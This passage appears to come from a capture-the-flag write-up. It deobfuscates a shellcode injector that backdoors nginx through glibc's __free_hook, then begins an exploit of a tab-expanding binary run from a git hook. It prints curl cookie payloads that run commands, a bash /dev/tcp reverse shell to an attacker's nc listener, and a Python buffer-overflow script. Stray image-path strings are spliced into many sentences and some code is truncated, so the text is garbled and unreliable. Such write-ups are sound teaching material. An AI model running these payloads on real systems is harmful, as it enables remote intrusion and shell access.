-rwxr-xr-x  1 root root2860 Jan 13 19:15

Inspecting the file shows that variables and function names don’t appear to have descriptive names but are just nonsensical strings. That, combined with the fact that the script uses grep to extract libc addresses from of /proc/<pid>/maps strengthens the assumption that the script is almost certainly not legitimate:

(Click to enlarge)

To gain a better understanding of what exactly the script does, the code was analyzed function-wise while renaming the randomized variable and function names with sensible values. This is, of course, an iterative process and the final result of our analysis was distilled into the following sed command, which renames the random function and variable names back to their perceived function:

$ sed \
-e 's/QueSh8yi/write_proc/g' \-e 's/xeiCh4xi/decode/g' \
-e 's/roth8Kai/p64le/g' \
-e 's/ieph2Oon/resolve_symbol/g' \
-e 's/ia5Uuboh/main/g' \
-e 's/go7uH1yu/PID/g' \
-e 's/ih9Ea1se/LIBC_TMP/g' \
-e 's/Teixoo1Z/LIBC_START/g' \
-e 's/cu1eiSe9/LIBC_PATH/g' \
-e 's/ojeequ9I/replace_pattern/g' \
-e 's/HeiSuC5o/SHELLCODE/g' \
-e 's/Que2vah0/SHELLCODE_SIZE/g' \
-e 's/Iek6Joyo/LIBC_END_EXEC/g' \
-e's/Thee6ahB/LIBC_SC_ADDR/g' \

After renaming function and variable names, the script is deobfuscated almost completely. The only exceptions are four Base64-encoded strings. From the already established context it becomes clear, that these strings are expected to contain libc symbol names which then get resolved to their respective addresses:

eo0oMaeL=$((LIBC_START+$(resolve_symbol $LIBC_PATH $(decode H4sIAAAAAAAAA4uPTytKTY3PyM/PBgDwEjq3CwAAAA==))))de0fie1O=$((LIBC_START+$(resolve_symbol $LIBC_PATH $(decode H4sIAAAAAAAAAyuuLC5JzQUAixFNyQYAAAA=))))
EeGie9qu=$((LIBC_START+$(resolve_symbol $LIBC_PATH $(decode H4sIAAAAAAAAA0srSk0FAMjBLk0EAAAA))))
Eeko2juZ=$((LIBC_START+$(resolve_symbol $LIBC_PATH $(decode H4sIAAAAAAAAA8tNzMnJT44vLU5MykmNL86sSgUA3kc6ChIAAAA=))))

The decode() function simply decodes the Base64 input and decompresses it using gzip:

decode() {
    echo "$1" | base64 -d | gzip -d

By  invoking decode() manually, we can obtain the obfuscated symbol names easily:

$ decode H4sIAAAAAAAAA8tNzMnJT44vLU5MykmNL86sSgUA3kc6ChIAAAA=

Thus, the sed deobfuscation command can be extended as follows:

$ sed \
-e's/QueSh8yi/write_proc/g' \
-e 's/Thee6ahB/LIBC_SC_ADDR/g' \
-e 's/eo0oMaeL/LIBC_FREE_HOOK_ADDR/g' \
-e 's/de0fie1O/LIBC_SYSTEM_ADDR/g' \
-e 's/EeGie9qu/LIBC_FREE_ADDR/g' \

Executing this final command yields a fully deobfuscated version of the injector script:

(Click to enlarge)

Studying the script suggests that it is a pretty straightforward implementation of a shellcode injector that injects shellcode into an arbitrary process. The process toinject into is specified by supplying its process ID (PID) as the first command line argument. The assembly code is injected at the very end of the libc’s (first) executable segment in the target process. Before the code is injected, the SHELLCODE template within the script is modified a few times by replacing dummy pointers:

  • ‘\x41’*8 is replaced by the address of libc’s malloc_usable_size() function
  • ‘\x42’*8 is replaced by the address of libc’s free() function
  • ‘\x43’*8 is replaced by the address of libc’s system() function
  • ‘\x44’*8 is replaced by the address of libc’s __free_hook variable
  • ‘\x55’*8 is replaced by the address at which the shellcode is injected

After the shellcode is injected, the __free_hook variable of libc is overwritten with the address of the injected shellcode. The __free_hook variable is declared in glibc with the following function pointer signature:

void (*__free_hook)(void *ptr, const void *caller);

It is a (deprecated) glibc feature that allows specifying a hook functionthat is invoked each time free() is called. In our case, that means that our injected shellcode function is called as a function. It receives the pointer void *ptr that is to be freed and the pointer const void *caller — that points to the code that calledfree() — as function arguments. With that information at hand, we can now reverse engineer the shellcode, identify the backdoor and finally scout the running snapshot for the backdoored process.

The shellcode can be disassembled and decompiled quite well using Ghidra and selecting x86-64-gcc as language. After labeling the dummy pointers according to the replacement scheme known from the shell script and overriding the signatures of malloc_usable_size(), system() and the injected __free_hook, Ghidra outputs the following decompiled code:

While this is certainly not a perfect decompilation, it already gives a pretty good impression of what the shellcode is doing:

  • The shellcode detects the size of the buffer, that is to be freed by using malloc_usable_size().
  • The __free_hook is disabled by setting it to NULL.
  • If the usable buffer size is less than 6, shellcode just frees the buffer and re-enables the hook.
  • If the usable size is 6 or more, the shellcode scans the buffer content for the character sequence cmd{. If it is found, the remaining buffer is scanned until the character } is found.
  • All characters enclosed by the curly brackets must be in the range [0x20, 0x7e], which represents printable ASCII characters. Otherwise, the buffer in question is freed and no further action is taken.
  • Once the closing bracket is found, it is replaced by a null byte and the string that was enclosed by the brackets is passed to system().
  • After returning from system(), the buffer is freed and the hook is re-enabled.

Now that we know what the shellcode and the backdoor do, we can go on and find out which process it was injected into. Since the challenge suggests that the backdoor needs to be accessed over the network, we investigate all processes that have listening sockets bound to non-loopback interfaces:

This leaves us with dhclient (PID 591), sshd (PID 377) and nginx (PID 380) as candidates. We can automate the process of dumping the process memory by reusing some of the original injector’s shell commands:

(Click to enlarge)

The script code iterates over the process candidates, finds the executable segment of their libc and dumps the last 201 bytes from it – this is exactly the size of the binary shellcode we extracted earlier. It will print the following output:

(Click to enlarge)

The output for PID 380 clearly showsthat the shellcode had been injected into the nginx process associated with that PID.

Now all that’s left to do is finding a way to make Nginx allocate (and later free) a buffer that it fills with data that we control. We can take two approaches: Either we analyze the Nginx code or we try to make an educated guess based on our understanding of how HTTP parsers written in C typically work. HTTP headers and HTTP cookies often present ideal candidates for such types of allocations as their keys and values are likely to be copied to dynamically allocated memory during HTTP request parsing. Once the connection is closed or the request is processed, the memorywould get freed again.

We can test our hypothesis on our local VM instance by executingthe following cURL command on the QEMU host:

$ curl -I -b 'foo=cmd{touch /tmp/x}' 0:4321
HTTP/1.1 200 OK
Server: nginx/1.18.0 (Ubuntu)

This sends a cookie named foo with a value of cmd{touch /tmp/x} to Nginx inside the QEMU VM. If the value cmd{touch /tmp/x} is in fact copied to a dynamically allocated buffer, the command inside should get executed when the bufferis freed again. After sending the request, we can verify that the file /tmp/x has indeed been created inside the QEMU VM:

root@injector-local:~# ls -la /tmp/x
-rw-rw-rw- 1 www-data www-data 0 Feb 22 15:29 /tmp/x

It seems that our assumptions were accurate. Next, we can start a listener on port 4141 on a host controlled by us and try to get a connect-back shell:

# nc -lvnp 4141
Listening on 4141

As a naive approach, we try to execute bash -i>/dev/tcp//4141 0>&1, which should give us a Bash-based connect-back shell:

$ curl -I -b 'foo=cmd{bash -i>/dev/tcp//4141 0>&1}' 0:4321
HTTP/1.1 200 OK
Server: nginx/1.18.0 (Ubuntu)

Unfortunately, no connection to our listener is established. This is due to the system() implementation, which internally uses the shell /bin/sh to execute the provided command. In the provided image, this path is symlinkedto /bin/dash and the Dash shell does not implement Bash’s network redirections via /dev/tcp. However, this problem can be fixed easily, by executing Bash first and passing it our payload to be executed directly by specifying it as the argument for the -c flag:

$ curl -I -b 'foo=cmd{bash -c "bash -i>/dev/tcp//4141 0>&1"}' 0:4321
HTTP/1.1 200 OK
Server: nginx/1.18.0 (Ubuntu)

This time, we actually receive a connect-back shell connection on our listener:

# nc -lvnp 4141
Listening on 4141
Connection received on  30066

To solve the challenge, the hostname in the cURL command must be replaced with the hostname from the challenge description, so that the command becomes:

$ curl -I -b 'foo=cmd{bash -c "bash -i>/dev/tcp//4141 0>&1"}'
HTTP/1.1 403 Forbidden

On the listener, we now get a shell from the live system that hosts the flag:

We can see that /flag and /flag.txt are both symlinked to /home/user/flag.txt and the content of that file, CS{fr33_h00k_b4ckd00r}, aligns nicely with what we experienced in this challenge.

Challenge 4: Tab-NabbedIn the fourth challenge of the SPACE JACKAL track, our fictional hacktivists took control of a git repository. The challenge situation was described as follows:

Good job! Your work helped us avert greater damage at the victim. Unfortunately the group came back and infiltrated another host. This time they hacked into the customer’s central git repository host, installed a hook that enforces their source code indentation ideology and kicked the legitimate admins out.

Before the admins lost access they were able to create a snapshot. With their consent, can you find a way back intothe host at:

Players were provided with an archive file githost.tar.xz, containing developers.key and githost.qcow2.

Investigating the Snapshot

We can mount and investigate the second partition of the qcow2.

$ file githost.qcow2
githost.qcow2: QEMU QCOW2 Image (v3), 10737418240 bytes
$ sudo modprobe nbd max_part=8
$ sudo qemu-nbd --connect=/dev/nbd0 ./githost.qcow2
$ sudo mkdir /mnt/tabnabbed
$ sudo mount /dev/nbd0p2 /mnt/tabnabbed

The folder home/git (within /mnt/tabnabbed) reveals a gitolite instance and the folder repositories. This folder contains two git repositories: the typical gitolite-admin.git and hashfunctions.git.

Inside hashfunctions.git we can find a custom post-receive git hook:

This script modifies all incoming updates. The function p() clones the repository hashfunctions.git to a temporary folder, stores the author and the message of the latest commit and calls the function d(). This function iterates over each file of the cloned repository and uses the function file_desinfect() to replace their contents. That function uses the binary executable /detab to generate the new file content.

Analysing the Binary

Initial exploration reveals that detab replaces tabs with spaces:

$ echo "\ta" | hexdump -C
00000000  09 61 0a                                          |.a.|
$ echo "\ta" | ./detab | hexdump -C
00000000  20 20 20 20 61 0a                                 |    a.|

A decompiler can be used to show the algorithmthat detab uses to replace tabs with spaces at the beginning of each line:

The code reads STDIN byte by byte into the variable c. The integer v12 is set to 1 for the beginning of each line and is reset to 0 after a character is read that is not \t. Therefore, v12 tracks whether the current character inside c could be part of tab-based indentation (if it is \t).

The decompiler did have some trouble automatically determining the local variable types. In particular, what it detected as a single array, size_t n[65], is actually a size variable, followed by a buffer. The size variable is accessed as n[0] in the decompiled code. It stores the number of writes written to the subsequent character buffer that is used to store the current line, shown in the decompilation as &n[1] and typecast to (_BYTE *).

Exploiting the Binary

On each iteration,the counter n[0], which stores the number of bytes written to the buffer, is checked for a value of 512 before a new character is read. When n[0] contains a value of 512, that means that the buffer is full, it is written to stdout and the size ( n[0]) will be reset to 0. When a character is read it will typically be written to the buffer. However, if a tab-character (‘\t‘) was read as part of indentation (indicated by the value of v12), four spaces will be written to the buffer and n[0] will be incremented by four. This behavior can be abused to skip the value 512 in the counter (since the exit condition tests for equality only) and therefore write more than 512 bytes into the buffer. This should allow us to exploit this binary. The binary itself provides a function (at 0x4011d6) to read and print the file /flag.txt. The simplest way of exploiting the vulnerability is to overflow the buffer and overwrite the return address to jump to that function. The following script will generate a file that when pushed to the github repository should trigger this buffer overflow exploit:

#!/usr/bin/env python3

import struct

# fill buffer; n[0] will contain 509 bytes:
payload = b'A' * 509

# write 509 bytes, followed by a newline and a tab that will
# be expanded to four spaces.
# n[0] will then contain 514 and the stack can be overwritten.
payload += b'\n\t'

payload += b'B' * 5
payload += b'c'
payload += b'iiiiiiii'
payload += b'llll'
payload += b'\n' * 4 # overwrite in_indent but reset all the time because of newline
payload += b'eeeeeeee'

# overwrite return pointer with address of print_flag function:
payload += struct.pack("<Q",0x4011d6)

# store payload as file to commit it:
with open("/tmp/tabnabbed_sploit.dat", "wb") as writer:

The resulting file must be committed and pushed in order to trigger the post-receive hook and run detab on the payload. To do so, we must clone the repository and add and commit the payload. The ssh configuration ~/.ssh/config is prepared to contain:

Host tabnabbed
    Port 23230
    User git
    IdentityFile /tmp/githost/developers.key
    PubkeyAuthentication yes

The repository can be cloned as follows:

$ git clone tabnabbed:hashfunctions.git

